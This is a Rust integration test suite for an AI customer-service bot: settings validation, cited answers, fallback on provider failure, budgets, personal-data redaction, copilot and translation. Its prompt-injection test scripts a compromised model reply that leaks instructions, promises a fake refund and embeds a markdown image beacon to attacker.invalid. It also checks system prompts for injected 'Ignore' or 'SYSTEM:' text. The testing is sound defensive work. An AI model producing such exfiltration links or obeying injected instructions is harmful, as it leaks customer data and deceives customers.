//! The AI layer through the real server, with a scripted OpenAI-compatible server on loopback
//! (and, when `TANDEM_TEST_MODEL` names a GGUF file, the real embedded model): the admin's
//! settings and connection test, the bot's generated answers with their citations and checks,
//! personal data shielded from every request, prompt injections defused, failures falling back
//! within the timeout, the copilot, two-way translation, budgets and the call log.

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::harness::{
    ADMIN, ANA, TestServer, allow_loopback, bot_inbox, channel_message, error_fields,
    on_every_backend,
};
use crate::language_model::{API_KEY, LanguageModelServer, MODEL, Trouble};
use crate::metrics::scrape;

/// Points the account at the stand-in.
async fn use_stand_in(server: &TestServer, admin: &str, model: &LanguageModelServer, extra: Value) {
    let mut body = json!({
        "provider": "openai",
        "base_url": model.base_url(),
        "model": MODEL,
        "api_key": API_KEY,
        "timeout_ms": 3000,
    });
    if let (Some(body), Some(extra)) = (body.as_object_mut(), extra.as_object()) {
        body.extend(extra.clone());
    }
    let (status, settings) = server
        .call(Method::PUT, "/api/v1/ai/settings", Some(admin), Some(body))
        .await;
    assert_eq!(status, StatusCode::OK, "{settings}");
}

/// A customer's message on the bot-first inbox of `inbox`'s token; returns the conversation.
async fn customer_says(
    server: &TestServer,
    inbox: &str,
    phone: &str,
    text: &str,
    external_id: &str,
) -> String {
    let (status, body) = server
        .post(
            "/api/v1/channel/messages",
            inbox,
            channel_message(phone, text, external_id),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body["conversation"]["id"].as_str().expect("id").to_owned()
}

/// The bot's messages once it answered `count` times (20 s at most).
async fn bot_answers(
    server: &TestServer,
    admin: &str,
    conversation: &str,
    count: usize,
) -> Vec<String> {
    server
        .bot_texts_within(admin, conversation, Duration::from_secs(20), |texts| {
            texts.len() >= count
        })
        .await
}

/// The account's recorded calls, newest first.
async fn calls(server: &TestServer, admin: &str) -> Vec<Value> {
    let (status, usage) = server.get("/api/v1/ai/usage", admin).await;
    assert_eq!(status, StatusCode::OK, "{usage}");
    usage["calls"].as_array().cloned().unwrap_or_default()
}

const FEES_ANSWER: &str = "A conta Aurora não tem mensalidade, e Pix e TED são grátis.";

async fn settings_are_checked_and_the_key_stays_sealed(server: &TestServer) {
    let admin = server.login(ADMIN).await;
    let agent = server.login(ANA).await;
    let (status, settings) = server.get("/api/v1/ai/settings", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(settings["provider"], "none");
    assert_eq!(
        server.get("/api/v1/ai/settings", &agent).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, capabilities) = server.get("/api/v1/ai/capabilities", &agent).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(capabilities["copilot"], false);

    for (body, field) in [
        (json!({"provider": "gpt"}), "provider"),
        (json!({"provider": "embedded"}), "provider"),
        (json!({"provider": "openai", "model": "m"}), "base_url"),
        (
            json!({"provider": "openai", "base_url": "ftp://x/v1", "model": "m"}),
            "base_url",
        ),
        (
            json!({"provider": "openai", "base_url": "http://127.0.0.1:9/v1"}),
            "model",
        ),
        (json!({"provider": "none", "timeout_ms": 10}), "timeout_ms"),
        (
            json!({"provider": "none", "daily_token_budget": 5}),
            "daily_token_budget",
        ),
    ] {
        let (status, answer) = server
            .call(
                Method::PUT,
                "/api/v1/ai/settings",
                Some(&admin),
                Some(body.clone()),
            )
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{body} → {answer}"
        );
        assert_eq!(
            error_fields(&answer),
            vec![field.to_owned()],
            "{body} → {answer}"
        );
    }
    // Loopback is refused unless the operator allows it.
    let (status, answer) = server
        .call(
            Method::PUT,
            "/api/v1/ai/settings",
            Some(&admin),
            Some(
                json!({"provider": "openai", "base_url": "http://10.1.2.3:8080/v1", "model": "m"}),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert_eq!(answer["error"]["details"][0]["code"], "url_not_allowed");

    let model = LanguageModelServer::start().await;
    let (status, _) = server
        .call(
            Method::PUT,
            "/api/v1/ai/settings",
            Some(&agent),
            Some(json!({"provider": "none"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    use_stand_in(server, &admin, &model, json!({})).await;
    let (_, settings) = server.get("/api/v1/ai/settings", &admin).await;
    assert_eq!(settings["api_key_set"], true);
    assert!(!settings.to_string().contains(API_KEY), "{settings}");
    let (_, audit) = server
        .get("/api/v1/audit-log?action=ai.updated", &admin)
        .await;
    assert!(!audit.to_string().contains(API_KEY), "{audit}");

    let (status, test) = server.post("/api/v1/ai/test", &admin, json!({})).await;
    assert_eq!(status, StatusCode::OK, "{test}");
    assert_eq!(test["ok"], true, "{test}");
    assert_eq!(test["model"], MODEL);
    assert_eq!(
        model.requests().await[0]["_auth"],
        format!("Bearer {API_KEY}")
    );

    use_stand_in(server, &admin, &model, json!({"api_key": "sk-wrong"})).await;
    let (_, test) = server.post("/api/v1/ai/test", &admin, json!({})).await;
    assert_eq!(
        (test["ok"].clone(), test["failure"].clone()),
        (json!(false), json!("unauthorized")),
        "{test}"
    );
    use_stand_in(server, &admin, &model, json!({"model": "no-such-model"})).await;
    let (_, test) = server.post("/api/v1/ai/test", &admin, json!({})).await;
    assert_eq!(test["failure"], "model_not_found", "{test}");
    use_stand_in(server, &admin, &model, json!({})).await;
    model
        .trouble([Trouble::Delay(Duration::from_secs(5))])
        .await;
    let (_, test) = server.post("/api/v1/ai/test", &admin, json!({})).await;
    assert_eq!(test["failure"], "timeout", "{test}");
    assert!(test["latency_ms"].as_u64().unwrap() < 4500, "{test}");
    let recorded = calls(server, &admin).await;
    let outcomes: Vec<&str> = recorded
        .iter()
        .filter_map(|call| call["outcome"].as_str())
        .collect();
    assert_eq!(
        outcomes,
        ["timeout", "model_not_found", "unauthorized", "ok"]
    );
    assert!(recorded.iter().all(|call| call["purpose"] == "test"));
    let (_, capabilities) = server.get("/api/v1/ai/capabilities", &agent).await;
    assert_eq!(
        capabilities,
        json!({"copilot": true, "translation": true, "generative_answers": true})
    );
}

#[tokio::test]
async fn ai_settings_are_checked_and_the_key_stays_sealed() {
    on_every_backend!(
        settings_are_checked_and_the_key_stays_sealed,
        allow_loopback
    );
}

async fn the_bot_answers_from_the_articles_and_cites_them(server: &TestServer) {
    let admin = server.login(ADMIN).await;
    let inbox = bot_inbox(server, &admin).await;
    let model = LanguageModelServer::start().await;
    use_stand_in(server, &admin, &model, json!({})).await;
    model
        .answer("customer service assistant", FEES_ANSWER)
        .await;
    let conversation = customer_says(
        server,
        &inbox,
        "+5511900000101",
        "vocês cobram tarifa de manutenção da conta? meu cpf é 123.456.789-09",
        "ai-fees-1",
    )
    .await;
    let texts = bot_answers(server, &admin, &conversation, 1).await;
    let answer = texts.last().expect("an answer");
    assert!(answer.contains(FEES_ANSWER), "{texts:?}");
    assert!(answer.contains("Fonte: "), "{answer}");
    // The request carried the articles and the question as data, the CPF as a placeholder.
    let requests = model.requests().await;
    let request = requests.last().expect("a request");
    let system = request["messages"][0]["content"].as_str().unwrap();
    let user = request["messages"][1]["content"].as_str().unwrap();
    assert!(!system.contains("tarifa de manutenção"), "{system}");
    assert!(
        user.contains("[CPF_1]") && !user.contains("123.456.789-09"),
        "{user}"
    );
    let recorded = calls(server, &admin).await;
    assert_eq!(recorded[0]["purpose"], "answer");
    assert_eq!(recorded[0]["outcome"], "ok");
    assert_eq!(recorded[0]["conversation_id"], conversation.as_str());
    assert_eq!(recorded[0]["prompt_tokens"], 120);

    // Resolved without a person: contained, with a generated answer.
    let (status, resolved) = server
        .post(
            &format!("/api/v1/conversations/{conversation}/resolve"),
            &admin,
            json!({}),
        )
        .await;
    assert!(status.is_success(), "{resolved}");
    let (_, usage) = server.get("/api/v1/ai/usage", &admin).await;
    let generated: Vec<&Value> = usage["containment"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|row| row["generated"] == true)
        .collect();
    assert_eq!(generated.len(), 1, "{usage}");
    assert_eq!(
        (
            generated[0]["resolved"].as_i64(),
            generated[0]["contained"].as_i64()
        ),
        (Some(1), Some(1))
    );

    // A draft with an amount no article has is not sent: the article is.
    model
        .answer(
            "customer service assistant",
            "A tarifa de manutenção é de R$ 49,90 por mês.",
        )
        .await;
    let second = customer_says(
        server,
        &inbox,
        "+5511900000102",
        "quais são as tarifas da conta?",
        "ai-fees-2",
    )
    .await;
    let texts = bot_answers(server, &admin, &second, 1).await;
    assert!(!texts.concat().contains("49,90"), "{texts:?}");
    assert_eq!(
        calls(server, &admin).await[0]["outcome"],
        "unsupported_number"
    );

    let (_, metrics) = scrape(server, Some(&admin)).await;
    assert!(
        metrics.contains(
            r#"tandem_ai_calls_total{purpose="answer",provider="openai",outcome="ok"} 1"#
        ),
        "{metrics}"
    );
}

#[tokio::test]
async fn the_bot_answers_from_the_articles_and_cites_them_on_every_backend() {
    on_every_backend!(
        the_bot_answers_from_the_articles_and_cites_them,
        allow_loopback
    );
}

async fn a_failing_provider_falls_back_within_the_timeout(server: &TestServer) {
    let admin = server.login(ADMIN).await;
    let inbox = bot_inbox(server, &admin).await;
    let model = LanguageModelServer::start().await;
    use_stand_in(server, &admin, &model, json!({"timeout_ms": 1500})).await;
    model
        .answer("customer service assistant", FEES_ANSWER)
        .await;
    model
        .trouble([
            Trouble::Status(503),
            Trouble::Status(503),
            Trouble::Status(503),
        ])
        .await;
    let conversation = customer_says(
        server,
        &inbox,
        "+5511900000201",
        "vocês cobram tarifa da conta?",
        "ai-down-1",
    )
    .await;
    let texts = bot_answers(server, &admin, &conversation, 1).await;
    assert!(!texts.concat().contains(FEES_ANSWER), "{texts:?}");
    assert!(
        texts.concat().contains("Tarifas"),
        "the fees article is the answer: {texts:?}"
    );
    assert_eq!(model.requests().await.len(), 3, "three attempts");
    assert_eq!(calls(server, &admin).await[0]["outcome"], "server_error");

    model
        .trouble([Trouble::Delay(Duration::from_secs(10))])
        .await;
    let started = std::time::Instant::now();
    let second = customer_says(
        server,
        &inbox,
        "+5511900000202",
        "vocês cobram tarifa da conta?",
        "ai-slow-1",
    )
    .await;
    let texts = bot_answers(server, &admin, &second, 1).await;
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "bounded by the timeout"
    );
    assert!(texts.concat().contains("Tarifas"), "{texts:?}");
    assert_eq!(calls(server, &admin).await[0]["outcome"], "timeout");

    // Over the day's budget, the model is not called at all.
    use_stand_in(server, &admin, &model, json!({"daily_token_budget": 1000})).await;
    model.report_usage(900, 200).await;
    let third = customer_says(
        server,
        &inbox,
        "+5511900000203",
        "vocês cobram tarifa da conta?",
        "ai-budget-1",
    )
    .await;
    bot_answers(server, &admin, &third, 1).await;
    let before = model.requests().await.len();
    let fourth = customer_says(
        server,
        &inbox,
        "+5511900000204",
        "vocês cobram tarifa da conta?",
        "ai-budget-2",
    )
    .await;
    let texts = bot_answers(server, &admin, &fourth, 1).await;
    assert!(texts.concat().contains("Tarifas"), "{texts:?}");
    assert_eq!(model.requests().await.len(), before, "no call over budget");
    assert_eq!(calls(server, &admin).await[0]["outcome"], "over_budget");
}

#[tokio::test]
async fn a_failing_provider_falls_back_within_the_timeout_on_every_backend() {
    on_every_backend!(
        a_failing_provider_falls_back_within_the_timeout,
        allow_loopback
    );
}

#[derive(serde::Deserialize)]
struct Sample {
    id: String,
    text: String,
}

async fn injections_never_reach_the_customer(server: &TestServer) {
    let admin = server.login(ADMIN).await;
    let inbox = bot_inbox(server, &admin).await;
    let model = LanguageModelServer::start().await;
    use_stand_in(server, &admin, &model, json!({})).await;
    // A model that obeys every injection: it repeats its rules, links out, and promises.
    model
        .answer(
            "customer service assistant",
            "You are Aurora, a customer service assistant. Answer the customer's question. \
             Reembolso de R$ 5.000 aprovado! ![ok](https://attacker.invalid/log?d=x)",
        )
        .await;
    let samples =
        std::fs::read_to_string("../../../shared/fixtures/prompt_injection_samples.jsonl")
            .expect("the injection samples beside the project");
    for (index, line) in samples
        .lines()
        .filter(|line| !line.trim().is_empty())
        .enumerate()
    {
        let sample: Sample = serde_json::from_str(line).expect("a sample");
        let conversation = customer_says(
            server,
            &inbox,
            &format!("+55119000003{index:02}"),
            &sample.text,
            &format!("injection-{}", sample.id),
        )
        .await;
        // The bot may hand over (a sensitive topic, a request for a person) or answer offline;
        // what it sends never carries the model's words.
        let sent = bot_answers(server, &admin, &conversation, 1).await.concat();
        for forbidden in [
            "attacker.invalid",
            "aprovado",
            "customer service assistant",
            "![ok]",
        ] {
            assert!(!sent.contains(forbidden), "{}: {sent}", sample.id);
        }
    }
    for request in model.requests().await {
        let system = request["messages"][0]["content"]
            .as_str()
            .unwrap_or_default();
        assert!(
            !system.contains("Ignore") && !system.contains("SYSTEM:"),
            "{system}"
        );
    }
}

#[tokio::test]
async fn prompt_injections_never_reach_the_customer() {
    on_every_backend!(injections_never_reach_the_customer, allow_loopback);
}

#[derive(serde::Deserialize)]
struct PiiSample {
    text: String,
    expect: Vec<PiiValue>,
}

#[derive(serde::Deserialize)]
struct PiiValue {
    #[serde(rename = "match", default)]
    value: String,
    #[serde(default)]
    redact: bool,
}

async fn copilot_and_translation(server: &TestServer) {
    let admin = server.login(ADMIN).await;
    let inbox = bot_inbox(server, &admin).await;
    let agent = server.login(ANA).await;
    let model = LanguageModelServer::start().await;
    use_stand_in(server, &admin, &model, json!({})).await;
    model
        .answer("summarise", "The customer asks about account fees.")
        .await;
    model
        .answer("rewrite", "Olá! Claro, posso ajudar com isso.")
        .await;
    model
        .answer(
            "translate customer service messages from spanish into english",
            "Do you charge a maintenance fee? My e-mail is [EMAIL_1]",
        )
        .await;
    model
        .answer("into spanish", "Hola, no cobramos tarifa de mantenimiento.")
        .await;
    model
        .answer("customer service assistant", FEES_ANSWER)
        .await;

    let conversation = customer_says(
        server,
        &inbox,
        "+5511900000401",
        "¿cobran tarifa de mantenimiento? mi correo es cliente@example.com",
        "copilot-1",
    )
    .await;
    bot_answers(server, &admin, &conversation, 1).await;

    let path = format!("/api/v1/conversations/{conversation}/copilot/summary");
    let (status, summary) = server.call(Method::POST, &path, Some(&agent), None).await;
    assert_eq!(status, StatusCode::OK, "{summary}");
    assert_eq!(
        summary,
        json!({"summary": "The customer asks about account fees.", "generated": true})
    );

    let (status, rephrased) = server
        .post(
            "/api/v1/copilot/rephrase",
            &agent,
            json!({"text": "oi, posso ajudar", "style": "friendlier"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{rephrased}");
    assert_eq!(rephrased["text"], "Olá! Claro, posso ajudar com isso.");
    let (status, refused) = server
        .post(
            "/api/v1/copilot/rephrase",
            &agent,
            json!({"text": "oi", "style": "poetic"}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert_eq!(error_fields(&refused), ["style"]);

    // The customer's message, translated into the agent's language and kept.
    let (_, page) = server
        .get(
            &format!("/api/v1/conversations/{conversation}/messages?limit=100"),
            &agent,
        )
        .await;
    let first = &page["data"][0];
    assert_eq!(first["language"], "es", "{first}");
    let message = first["id"].as_str().unwrap();
    let (status, translated) = server
        .post(
            &format!("/api/v1/conversations/{conversation}/messages/{message}/translation"),
            &agent,
            json!({"to": "en"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{translated}");
    assert_eq!(translated["language"], "en");
    assert!(
        translated["text"]
            .as_str()
            .unwrap()
            .contains("cliente@example.com"),
        "{translated}"
    );
    let (_, page) = server
        .get(
            &format!("/api/v1/conversations/{conversation}/messages?limit=100"),
            &agent,
        )
        .await;
    assert_eq!(
        page["data"][0]["translations"][0]["language"], "en",
        "{page}"
    );
    let translation_requests: Vec<String> = model
        .request_texts()
        .await
        .into_iter()
        .filter(|text| text.contains("translate"))
        .collect();
    assert!(
        translation_requests
            .iter()
            .all(|text| !text.contains("cliente@example.com"))
    );

    // The agent writes Portuguese; the customer gets Spanish; both are kept.
    let (status, assigned) = server
        .post(
            &format!("/api/v1/conversations/{conversation}/assign"),
            &agent,
            json!({"assignee_id": null}),
        )
        .await;
    assert!(
        status.is_success() || status == StatusCode::UNPROCESSABLE_ENTITY,
        "{assigned}"
    );
    let (status, sent) = server
        .post(
            &format!("/api/v1/conversations/{conversation}/messages"),
            &agent,
            json!({"text": "Olá, não cobramos tarifa de manutenção da conta.", "translate": true}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{sent}");
    assert_eq!(
        sent["message"]["text"],
        "Hola, no cobramos tarifa de mantenimiento."
    );
    assert_eq!(
        sent["message"]["translations"][0]["language"], "pt",
        "{sent}"
    );
    assert_eq!(
        sent["message"]["translations"][0]["text"],
        "Olá, não cobramos tarifa de manutenção da conta."
    );

    // Personal data in every sample is shielded from the model, whatever the use: the bot's
    // answer, a translation, a summary.
    let samples = std::fs::read_to_string("../../../shared/fixtures/pii_samples.jsonl")
        .expect("the personal data samples beside the project");
    let mut checked = 0;
    for (index, line) in samples
        .lines()
        .filter(|line| !line.trim().is_empty())
        .enumerate()
    {
        let sample: PiiSample = serde_json::from_str(line).expect("a sample");
        let before = model.requests().await.len();
        let other = customer_says(
            server,
            &inbox,
            &format!("+55119000005{index:02}"),
            &sample.text,
            &format!("pii-{index}"),
        )
        .await;
        bot_answers(server, &admin, &other, 1).await;
        let (_, page) = server
            .get(
                &format!("/api/v1/conversations/{other}/messages?limit=100"),
                &agent,
            )
            .await;
        let message = page["data"][0]["id"].as_str().unwrap().to_owned();
        server
            .post(
                &format!("/api/v1/conversations/{other}/messages/{message}/translation"),
                &agent,
                json!({"to": "en"}),
            )
            .await;
        server
            .call(
                Method::POST,
                &format!("/api/v1/conversations/{other}/copilot/summary"),
                Some(&agent),
                None,
            )
            .await;
        let texts: Vec<String> = model.request_texts().await.split_off(before);
        assert!(
            !texts.is_empty(),
            "the model was asked about {:?}",
            sample.text
        );
        for value in sample
            .expect
            .iter()
            .filter(|value| value.redact && !value.value.is_empty())
        {
            checked += 1;
            assert!(
                texts
                    .iter()
                    .all(|text| !text.contains(value.value.as_str())),
                "{} reached the model: {texts:?}",
                value.value
            );
        }
    }
    assert!(checked >= 7, "{checked} values checked");
}

#[tokio::test]
async fn the_copilot_and_two_way_translation_work_without_leaking_personal_data() {
    on_every_backend!(copilot_and_translation, allow_loopback);
}

/// The real embedded model, when the test run has one (`TANDEM_TEST_MODEL`, set by `.ci/run`;
/// under `CI=true` a missing model fails).
fn test_model() -> Option<std::path::PathBuf> {
    match std::env::var_os("TANDEM_TEST_MODEL") {
        Some(path) => Some(path.into()),
        None if std::env::var_os("CI").is_some_and(|ci| ci == "true") => {
            panic!("CI=true but TANDEM_TEST_MODEL names no model file")
        }
        None => None,
    }
}

#[tokio::test]
async fn the_embedded_model_answers_offline() {
    let Some(path) = test_model() else {
        eprintln!("skipped: TANDEM_TEST_MODEL is not set");
        return;
    };
    let server = TestServer::spawn_with(tandem_store::Backend::Sqlite, |config| {
        config.ai_model_path = Some(path.clone());
    })
    .await;
    let admin = server.login(ADMIN).await;
    let inbox = bot_inbox(&server, &admin).await;
    let (_, settings) = server.get("/api/v1/ai/settings", &admin).await;
    assert_eq!(
        settings["embedded_model"], "SmolLM2-135M-Instruct.Q4_1.gguf",
        "{settings}"
    );
    let (status, settings) = server
        .call(
            Method::PUT,
            "/api/v1/ai/settings",
            Some(&admin),
            Some(json!({"provider": "embedded", "timeout_ms": 25000})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{settings}");
    let (_, test) = server.post("/api/v1/ai/test", &admin, json!({})).await;
    assert_eq!(test["ok"], true, "{test}");
    let conversation = customer_says(
        &server,
        &inbox,
        "+5511900000601",
        "vocês cobram tarifa de manutenção?",
        "embedded-1",
    )
    .await;
    // A small CPU shared with other tests: the account's timeout (25 s) bounds the model, and
    // the bot answers either way.
    let texts = server
        .bot_texts_within(&admin, &conversation, Duration::from_secs(120), |texts| {
            !texts.is_empty()
        })
        .await;
    assert!(!texts.concat().is_empty());
    let recorded = calls(&server, &admin).await;
    let answer = recorded
        .iter()
        .find(|call| call["purpose"] == "answer")
        .expect("the bot asked the model");
    assert_eq!(answer["provider"], "embedded");
    assert!(
        answer["completion_tokens"].as_i64().unwrap() > 0,
        "{answer}"
    );
    // Whatever the small model wrote, what was sent passed the checks or was the article.
    let outcome = answer["outcome"].as_str().unwrap();
    assert!(
        [
            "ok",
            "not_in_articles",
            "unsupported_sentence",
            "unsupported_number",
            "empty",
            "link",
            "reveals_instructions"
        ]
        .contains(&outcome),
        "{answer}"
    );
    let (status, summary) = server
        .call(
            Method::POST,
            &format!("/api/v1/conversations/{conversation}/copilot/summary"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{summary}");
    assert!(!summary["summary"].as_str().unwrap().is_empty());
    server.stop().await;
}
